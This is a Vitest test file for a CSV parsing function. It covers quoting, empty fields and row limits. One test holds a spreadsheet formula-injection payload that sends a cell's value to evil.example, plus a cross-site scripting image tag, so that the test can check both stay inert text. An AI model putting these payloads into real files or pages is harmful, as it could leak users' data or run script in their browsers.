import { describe, expect, test } from "vitest";
import { parseCsv } from "@/components/files/parse-csv";

describe("parseCsv", () => {
  test("splits rows and fields, with quoted commas, doubled quotes and line breaks inside quotes", () => {
    const text = 'name,note\r\n"Globex, Inc.","said ""no"""\n"multi\nline",plain\n';
    expect(parseCsv(text, 100)).toEqual({
      rows: [
        ["name", "note"],
        ["Globex, Inc.", 'said "no"'],
        ["multi\nline", "plain"],
      ],
      complete: true,
    });
  });

  test("keeps a last row without a line break, and empty fields", () => {
    expect(parseCsv("a,,c\n,b,", 100).rows).toEqual([
      ["a", "", "c"],
      ["", "b", ""],
    ]);
  });

  test("formulas and markup stay text", () => {
    expect(parseCsv('"=HYPERLINK(""https://evil.example/?leak=""&A1,""Click"")",2\n<img src=x onerror=alert(1)>', 100).rows).toEqual([
      ['=HYPERLINK("https://evil.example/?leak="&A1,"Click")', "2"],
      ["<img src=x onerror=alert(1)>"],
    ]);
  });

  test("stops at the row limit and says so", () => {
    expect(parseCsv("1\n2\n3\n", 2)).toEqual({ rows: [["1"], ["2"]], complete: false });
    expect(parseCsv("1\n2\n", 2)).toEqual({ rows: [["1"], ["2"]], complete: true });
  });
});
